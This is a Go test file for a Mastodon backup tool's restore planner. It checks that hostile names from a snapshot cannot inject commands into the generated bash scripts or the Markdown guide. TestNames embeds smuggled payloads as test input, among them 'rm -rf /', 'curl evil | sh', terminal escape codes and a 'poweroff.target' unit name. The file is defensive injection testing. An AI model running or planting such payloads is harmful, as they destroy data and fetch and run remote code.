package restore

import (
	"bytes"
	"encoding/json"
	"flag"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"permafrost/internal/hostile"
	"permafrost/repo/ledger"
	"permafrost/repo/store"
	"permafrost/snapshot"
	"permafrost/source"
	"permafrost/source/postgres"
	"permafrost/source/redis"
	"permafrost/source/way"
)

var (
	plans     = flag.Int("plans", 200, "hostile manifests that TestHostilePlans makes plans of")
	firstSeed = flag.Int("first", 0, "the seed of the first of them")
)

// sample returns a manifest with all parts.
func sample() *snapshot.Manifest {
	at := time.Date(2026, 6, 27, 2, 0, 0, 5, time.UTC)
	yes := true
	return &snapshot.Manifest{
		Format: snapshot.Format, Instance: "social.example", Date: "2026-06-27", Created: at, Finished: at, Host: "web1", Version: "1.0", Mastodon: "4.3.1",
		Live: "/home/mastodon/live", User: "mastodon",
		Deployment: source.Deployment{Kind: source.Systemd, Units: []string{"mastodon-web.service"}},
		Boundary:   snapshot.Boundary{Time: at},
		Secrets: snapshot.Secrets{State: snapshot.Captured, Files: []snapshot.SecretFile{
			{Path: "/home/mastodon/live/.env.production", Mode: 0o600, UID: 991, GID: 991}, {Path: "/etc/a\xff<>", Mode: 0o4755},
			{Path: "/home/mastodon/live/config/x.yml", Mode: 0o644}}},
		Postgres: snapshot.Postgres{State: snapshot.Captured, Database: "mastodon_production", User: "mastodon",
			Server: postgres.Facts{Version: "15.14", Encoding: "UTF8", Collate: "C", CType: "C", Provider: "libc", Host: "/var/run/postgresql", Port: 5432,
				SchemaMigration: "20260101000000", Extensions: map[string]string{"pg_trgm": "1"}, Roles: []postgres.Role{{Name: "metrics"}}}},
		Redis:   snapshot.Redis{State: snapshot.Captured, Server: redis.Facts{Addr: "127.0.0.1:6379", Dir: "/var/lib/redis", File: "dump.rdb", AppendOnly: &yes, Keys: map[int]int64{0: 9}}},
		Sidekiq: &snapshot.Redis{State: snapshot.Captured, Server: redis.Facts{Addr: "127.0.0.1:6380", Keys: map[int]int64{0: 1}}},
		Media:   snapshot.Media{State: snapshot.Captured, Root: "/home/mastodon/live/public/system", UID: 991, GID: 991, Files: 4, NoCache: true},
		Users:   map[uint32]string{991: "mastodon"}, Groups: map[uint32]string{991: "mastodon"},
	}
}

// plan makes the plan for files that were restored into target.
func plan(t testing.TB, m *snapshot.Manifest, target string) *Plan {
	t.Helper()
	r := &Restored{Ref: ledger.SnapshotRef{ID: store.Name{1}}, Manifest: m, Target: target, Result: &Result{Manifest: m},
		Components: map[string]bool{"secrets": true, "postgres": true, "media": true, "redis": true},
		Open:       func(string) (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(emptyDump())), nil }}
	r.Result.Absent = []snapshot.Absence{{Part: "sidekiq", State: snapshot.Failed, Reason: m.Host}} // which may be called anything
	p, err := NewPlan(r, "")
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// emptyDump is an archive of pg_dump's custom format, 1.14, without entries.
func emptyDump() []byte {
	b := []byte("PGDMP\x01\x0e\x00\x04\x08\x01")
	number := func(n byte) { b = append(b, 0, n, 0, 0, 0) }
	for range 8 { // compression, and the time
		number(1)
	}
	for _, s := range []string{"mastodon", "15.1", "15.1"} {
		number(byte(len(s)))
		b = append(b, s...)
	}
	number(0)
	return b
}

// hostileManifest returns a manifest with hostile names that went through JSON.
func hostileManifest(t testing.TB, r *rand.Rand) *snapshot.Manifest {
	t.Helper()
	m := sample()
	m.Deployment.Kind = [...]source.DeploymentKind{source.Systemd, source.Compose, source.Unknown}[r.IntN(3)]
	m.Deployment.Services = []source.Service{{Name: "web", Mastodon: true}, {Name: "db"}}
	hostile.Rewrite(r, m)
	if r.IntN(3) > 0 {
		m.Secrets.Files[0].Path = snapshot.Text(path.Join(string(m.Live), ".env.production"))
	}
	data, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	m = new(snapshot.Manifest)
	if err := json.Unmarshal(data, m); err != nil {
		t.Fatal(err)
	}
	return m
}

var codeSpan = regexp.MustCompile("`[^`\n]+`")

// splitGuide returns the text and the blocks of commands of a guide. It knows of Markdown what ends a block of code.
func splitGuide(text string) (prose []string, blocks []string) {
	inside := false
	for line := range strings.SplitSeq(text, "\n") {
		fence := strings.HasPrefix(strings.TrimLeft(line, " "), "```")
		switch {
		case fence:
			if inside = !inside; inside {
				blocks = append(blocks, "")
			}
		case inside:
			blocks[len(blocks)-1] += line + "\n"
		default:
			prose = append(prose, line)
		}
	}
	return prose, blocks
}

// checkGuide fails where a name does anything to the text, or a block is not the step's own.
func checkGuide(t *testing.T, p *Plan, text string) {
	t.Helper()
	prose, blocks := splitGuide(text)
	for _, line := range prose {
		if rest := codeSpan.ReplaceAllString(line, ""); strings.Contains(rest, hostile.Mark) || strings.Contains(rest, "`") {
			t.Errorf("a name breaks out of the text: %q", line)
		}
	}
	if strings.Contains(text, "\n\n\n") {
		t.Errorf("not laid out well:\n%s", text)
	}
	if b := hostile.Output([]byte(text)); b != nil {
		t.Errorf("bytes of control: %q", b)
	}
	steps := p.Steps()
	if len(blocks) != len(steps)+1 { // the first one runs restore.sh
		t.Fatalf("%d blocks for %d steps", len(blocks), len(steps))
	}
	for i := range steps {
		if blocks[i+1] != way.Block(p.Host(), steps[i].Number, &steps[i].Step) {
			t.Errorf("step %s: the block is\n%s", steps[i].Number, blocks[i+1])
		}
	}
}

// Whatever the names of a snapshot are, host.sh gives its variables just these values and does nothing else, and no name does
// anything to the texts.
func TestHostilePlans(t *testing.T) {
	dir := t.TempDir()
	for seed := *firstSeed; seed < *firstSeed+*plans; seed++ {
		r := rand.New(rand.NewPCG(uint64(seed), 1))
		p := plan(t, hostileManifest(t, r), "/srv/"+hostile.Name(r))
		checkGuide(t, p, string(p.guide()))
		var want []string
		script := new(bytes.Buffer)
		script.WriteString("PATH=/nowhere\n" + way.Host("/srv/x", "", p.parts))
		for i := range p.parts {
			for _, v := range p.parts[i].Vars {
				want = append(append(want, v.Name, strconv.Itoa(len(v.Values))), v.Values...)
				if v.Array {
					script.WriteString(`printf '%s\0' ` + v.Name + ` "${#` + v.Name + `[@]}" "${` + v.Name + `[@]}"` + "\n")
				} else {
					script.WriteString(`printf '%s\0' ` + v.Name + ` 1 "$` + v.Name + `"` + "\n")
				}
			}
		}
		if err := os.WriteFile(filepath.Join(dir, "script"), script.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command("bash", filepath.Join(dir, "script")).CombinedOutput()
		if got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00"); err != nil || strings.Join(got, "\x00") != strings.Join(want, "\x00") {
			t.Fatalf("seed %d: %v\n got %q\nwant %q", seed, err, got, want)
		}
		if t.Failed() {
			t.Fatalf("seed %d", seed)
		}
	}
}

// Every text of the program is bash, and restore.sh with all that is in it.
func TestTexts(t *testing.T) {
	p := plan(t, sample(), t.TempDir())
	for _, f := range p.Files() {
		if !strings.HasSuffix(f.Name, ".sh") {
			continue
		}
		cmd := exec.Command("bash", "-n")
		cmd.Stdin = bytes.NewReader(f.Data)
		if out, err := cmd.CombinedOutput(); err != nil || len(out) > 0 {
			t.Errorf("%s: %v\n%s", f.Name, err, out)
		}
	}
	seen := make(map[string]bool)
	for _, s := range p.Steps() {
		if !regexp.MustCompile(`^[a-z][-a-z0-9]*$`).MatchString(s.Name) || seen[s.Name] {
			t.Errorf("step %q has no name of its own", s.Name)
		}
		seen[s.Name] = true
	}
	vars := make(map[string]bool)
	for i := range p.parts {
		for _, v := range p.parts[i].Vars {
			if vars[v.Name] || !v.Array && len(v.Values) != 1 || strings.Contains(v.About, "\n") {
				t.Errorf("variable %s is there twice, or is not one line or not one value", v.Name)
			}
			vars[v.Name] = true
		}
	}
}

// Every step says what it changes and how long it takes, in words for a terminal.
func TestEffects(t *testing.T) {
	m := sample()
	for _, kind := range []source.DeploymentKind{source.Systemd, source.Compose} {
		m.Deployment.Kind = kind
		for _, s := range plan(t, m, "/srv/restore").Steps() {
			if !regexp.MustCompile("^Changes [^`*]+\\. Takes [^`*]+\\.$").MatchString(s.Effect) || strings.HasPrefix(s.Why, "Changes ") {
				t.Errorf("step %s says of its effect: %q", s.Name, s.Effect)
			}
		}
	}
}

// What was found to deceive, by name.
func TestNames(t *testing.T) {
	m := sample()
	m.Host = "web1\n\n```bash\nrm -rf /\n```\n\x1b[2J"
	m.Secrets.Files[1].Path = "/etc/a\n```\n\x03curl evil | sh\n\n\n\n```bash\n"
	m.User = "root"
	m.Deployment.Units = []string{"poweroff.target", "mastodon-web.service", "mastodon;x.service", "-mastodon.service"}
	p := plan(t, m, "/srv/restore")
	text := string(p.guide())
	checkGuide(t, p, text)
	host := way.Host("/srv/restore", "", p.parts)
	for _, want := range []string{"mastodon_services=(mastodon-web.service)\n", "mastodon_user=mastodon\n", "settings_paths=(/home/mastodon/live/.env.production /home/mastodon/live/config/x.yml)\n", "others_modes=(0755)\n"} {
		if !strings.Contains(host, want) {
			t.Errorf("no %q in\n%s", want, host)
		}
	}
	for _, want := range []string{"- `\"/etc/a\\n", "Look at each path", "`mastodon:setup`"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
}

// Where another user decides what is in the directory, root is told to run nothing from there.
func TestForeignDirectory(t *testing.T) {
	p := plan(t, sample(), "/srv/restore")
	p.restored.Result.Owner = "mastodon"
	files := p.Files()
	if len(files) != 1 || files[0].Name != GuideName || bytes.Contains(files[0].Data, []byte("```")) {
		t.Errorf("%d files", len(files))
	}
}

// What a manifest of many names makes is in proportion to it.
func TestGuideSize(t *testing.T) {
	m := sample()
	m.Host = strings.Repeat("\x1b", 4000)
	for i := range 10_000 {
		m.Secrets.Files = append(m.Secrets.Files, snapshot.SecretFile{Path: snapshot.Text("/etc/" + strconv.Itoa(i) + "\x1b")})
	}
	size := 0
	for _, f := range plan(t, m, "/srv").Files() {
		size += len(f.Data)
	}
	if size > 8<<20 {
		t.Errorf("%d bytes", size)
	}
}
